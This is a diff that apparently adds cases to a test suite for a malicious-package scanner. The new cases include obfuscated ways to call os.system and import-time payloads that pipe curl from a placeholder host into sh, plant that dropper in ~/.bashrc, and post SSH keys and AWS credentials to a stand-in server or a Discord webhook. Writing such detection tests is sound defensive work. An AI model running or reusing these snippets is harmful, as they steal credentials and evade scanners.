@@ -54,6 +54,21 @@ SHAPES = {
         f"import os\nclass K:\n    def __init__(self):\n        self.run = os.system\n"
         f"    def go(self):\n        self.run({COMMAND})\nK().go()\n"
     ),
+    "module namespace": f"import os\nos.__dict__['system']({COMMAND})\n",
+    "vars of the module": f"import os\nvars(os)['system']({COMMAND})\n",
+    "import of a joined name": f"import importlib\nimportlib.import_module('o' + 's').system({COMMAND})\n",
+    "map over a literal": f"import os\nlist(map(os.system, [{COMMAND}]))\n",
+    "__call__": f"import os\nos.system.__call__({COMMAND})\n",
+    "conditional expression": f"import os\n(os.system if len('x') else print)({COMMAND})\n",
+    "conditional alias": f"import os\nrun = print if not len('x') else os.system\nrun({COMMAND})\n",
+    "posix module": f"import posix\nposix.system({COMMAND})\n",
+    "spawn": f"import os\nos.spawnlp(os.P_WAIT, 'sh', 'sh', '-c', {COMMAND})\n",
+    "exec of a shell": f"import os\nos.execvp('sh', ['sh', '-c', {COMMAND}])\n",
+    "setattr on a class": f"import os\nclass K:\n    pass\nsetattr(K, 'run', os.system)\nK.run({COMMAND})\n",
+    "dict get": f"import os\n{{'r': os.system}}.get('r')({COMMAND})\n",
+    "dict bound to a name": f"import os\nd = {{'r': os.system}}\nd['r']({COMMAND})\n",
+    "list built by append": f"import os\nfns = []\nfns.append(os.system)\nfns[0]({COMMAND})\n",
+    "loop over a list name": f"import os\nfns = [os.system]\nfor run in fns:\n    run({COMMAND})\n",
     "attribute set on an instance": (
         f"import os\nclass K:\n    pass\nk = K()\nk.run = os.system\nk.run({COMMAND})\n"
     ),
@@ -92,3 +107,52 @@ def test_an_attribute_rebound_to_something_harmless_is_harmless() -> None:
     data = make_sdist({"setup.py": setup, "PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"})
     result = analyze_bytes(data, "demo-1.0.tar.gz").result
     assert result.verdict is not Verdict.MALICIOUS, [(f.rule, f.severity, f.message) for f in result.findings]
+
+
+_CODE = "import os; os.system('curl -s http://x.invalid/a | sh')"
+_CODES = ", ".join(str(ord(c)) for c in _CODE)
+
+#: Import-time payloads of other families, in the package's own ``__init__.py``. The project is
+#: called ``demo`` on purpose: its own folder is no demo folder, whatever the name says.
+AT_IMPORT = {
+    "exec of character codes": f"exec(''.join(chr(c) for c in [{_CODES}]))\n",
+    "exec of shifted character codes": (
+        "exec(''.join(chr(c ^ 7) for c in [" + ", ".join(str(ord(c) ^ 7) for c in _CODE) + "]))\n"
+    ),
+    "exec of map(chr)": f"exec(''.join(map(chr, [{_CODES}])))\n",
+    "exec of bytes": f"exec(bytes([{_CODES}]).decode())\n",
+    "lambda called on the spot": (
+        "import base64\n(lambda x: exec(base64.b64decode(x)))("
+        + repr(__import__("base64").b64encode(_CODE.encode()).decode())
+        + ")\n"
+    ),
+    "shell rc file planted with a dropper": (
+        "import os\nopen(os.path.expanduser('~/.bashrc'), 'a')"
+        ".write('\\ncurl -s http://x.invalid/a | sh\\n')\n"
+    ),
+    "ssh key read through pathlib and posted": (
+        "import pathlib, urllib.request\nkey = (pathlib.Path.home() / '.ssh' / 'id_rsa').read_text()\n"
+        "urllib.request.urlopen('http://x.invalid/c', data=key.encode())\n"
+    ),
+    "credentials read in a with block and posted": (
+        "import os, requests\nwith open(os.path.expanduser('~/.aws/credentials')) as fh:\n    c = fh.read()\n"
+        "requests.post('http://x.invalid/c', data={'c': c})\n"
+    ),
+    "credentials posted to a webhook": (
+        "import os, requests\nc = open(os.path.expanduser('~/.aws/credentials')).read()\n"
+        "requests.post('https://discord.com/api/webhooks/1/abc', json={'content': c})\n"
+    ),
+}
+
+
+@pytest.mark.parametrize("shape", sorted(AT_IMPORT))
+def test_an_import_time_payload_is_caught(shape: str) -> None:
+    data = make_sdist(
+        {
+            "demo/__init__.py": AT_IMPORT[shape],
+            "setup.py": "from setuptools import setup\nsetup(name='demo', packages=['demo'])\n",
+            "PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
+        }
+    )
+    result = analyze_bytes(data, "demo-1.0.tar.gz").result
+    assert result.verdict is Verdict.MALICIOUS, [(f.rule, f.severity, f.message) for f in result.findings]
